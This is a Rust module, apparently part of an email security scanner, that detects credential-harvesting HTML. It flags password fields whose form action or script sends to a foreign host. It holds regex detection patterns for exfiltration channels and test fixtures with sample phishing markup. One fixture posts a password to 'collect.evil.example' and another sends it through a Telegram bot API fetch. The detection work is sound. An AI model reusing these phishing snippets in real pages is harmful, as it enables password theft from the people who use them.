//! Credential harvesting: an HTML document (a body, or a page attached to be
//! opened in a browser) that asks for a password. What makes it worse is
//! where the password goes: a form `action` (or `formaction`) on another
//! organisation than the sender's and the tenant's, or a script that sends
//! it (`XMLHttpRequest`, `fetch`, `sendBeacon`, jQuery's `ajax`/`post`,
//! a Telegram bot API URL).
//!
//! Reads both the forms of the view's tokenizer (attributes decoded as a
//! browser decodes them, so `type="pass&#119;ord"` or an action written with
//! character references is seen) and the revealed text (see `reveal`), so a
//! form written by `document.write(unescape(...))` or an action set from
//! `atob` is seen too. Pure: takes the document and the organisations that
//! are "home".

use std::sync::LazyLock;

use regex::Regex;

use crate::scan::brands;
use crate::scan::view::Form;

/// A password input, however it is written (`type=password`, `type="password"`,
/// `.type = 'password'` in script).
static PASSWORD_FIELD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?i)type\s*[=:]\s*\\?["']?\s*password\b"#).expect("valid regex"));
static FORM_TARGET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:\b(?:form)?action\s*=\s*\\?["']?|\.action\s*=\s*["'`])\s*((?:https?:)?//[^"'`\s>\\]+)"#)
        .expect("valid regex")
});
/// A script that sends data somewhere, and the URL it names when it does.
static SCRIPT_SEND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:XMLHttpRequest|\bfetch\s*\(|sendBeacon\s*\(|\$\.(?:ajax|post)\s*\(|api\.telegram\.org|\.open\s*\(\s*["'](?:POST|GET)["'])"#,
    )
    .expect("valid regex")
});
static ANY_URL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?i)https?://([a-z0-9.\-]+)"#).expect("valid regex"));

/// Builds this file's tables now, when the check is built, rather than at
/// the first message that needs them (see the `checks` module header).
pub(crate) fn warm() {
    LazyLock::force(&PASSWORD_FIELD);
    LazyLock::force(&FORM_TARGET);
    LazyLock::force(&SCRIPT_SEND);
    LazyLock::force(&ANY_URL);
}

/// What a document asks for and where it sends it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct CredentialForm {
    /// The foreign host the password would go to, when one is named.
    pub(crate) destination: Option<String>,
    /// A script (not a form) sends it.
    pub(crate) scripted: bool,
}

/// Looks for a password request in a document: its `forms` as the view's
/// tokenizer read them, and `revealed` (its markup with disguises undone).
/// `home` holds the registrable domains that are not foreign: the sender's
/// and the tenant's.
pub(crate) fn credential_form(revealed: &str, forms: &[Form], home: &[String]) -> Option<CredentialForm> {
    if !forms.iter().any(|f| f.password) && !PASSWORD_FIELD.is_match(revealed) {
        return None;
    }
    let foreign = |host: &str| {
        let org = brands::organisation(host);
        !home.contains(&org)
    };
    let form_destination = forms
        .iter()
        .filter_map(|f| f.action.as_deref())
        .filter_map(host_of)
        .chain(FORM_TARGET.captures_iter(revealed).filter_map(|c| host_of(&c[1])))
        .find(|h| foreign(h));
    let scripted = SCRIPT_SEND.is_match(revealed);
    let script_destination = if scripted && form_destination.is_none() {
        // The script's URLs: the first foreign one is where it sends.
        ANY_URL
            .captures_iter(revealed)
            .map(|c| c[1].to_ascii_lowercase())
            .find(|h| foreign(h) && !is_markup_namespace(h))
    } else {
        None
    };
    Some(CredentialForm {
        destination: form_destination.or(script_destination),
        scripted,
    })
}

fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("//")?.1;
    let host = rest.split(['/', '?', '#', ':']).next()?;
    let host = host.rsplit('@').next()?.to_ascii_lowercase();
    (host.contains('.')).then_some(host)
}

/// Namespace URLs every SVG/XHTML document names without sending anything there.
fn is_markup_namespace(host: &str) -> bool {
    matches!(host, "www.w3.org" | "w3.org" | "schemas.microsoft.com" | "ns.adobe.com")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn home() -> Vec<String> {
        vec!["contoso.com".into(), "sender.example".into()]
    }

    #[test]
    fn a_password_form_posting_elsewhere_is_found() {
        let html = r#"<form method=post action="https://collect.evil.example/p.php"><input type="email" name=u>
<input type = "password" name=p></form>"#;
        let f = credential_form(html, &[], &home()).unwrap();
        assert_eq!(f.destination.as_deref(), Some("collect.evil.example"));
        assert!(!f.scripted);
    }

    #[test]
    fn a_script_sending_the_password_is_found() {
        let html = r#"<input id=p type='password'><script>fetch("https://api.telegram.org/bot1/sendMessage",{method:"POST"})</script>"#;
        let f = credential_form(html, &[], &home()).unwrap();
        assert_eq!(f.destination.as_deref(), Some("api.telegram.org"));
        assert!(f.scripted);
    }

    #[test]
    fn home_forms_and_pages_without_passwords_are_not_foreign() {
        let own = r#"<form action="https://www.sender.example/login"><input type=password></form>"#;
        assert_eq!(credential_form(own, &[], &home()).unwrap().destination, None);
        let search = r#"<form action="https://search.example/q"><input type=text name=q></form>"#;
        assert_eq!(credential_form(search, &[], &home()), None);
        // The word in prose is no field.
        assert_eq!(credential_form("<p>Type your password below.</p>", &[], &home()), None);
    }
}
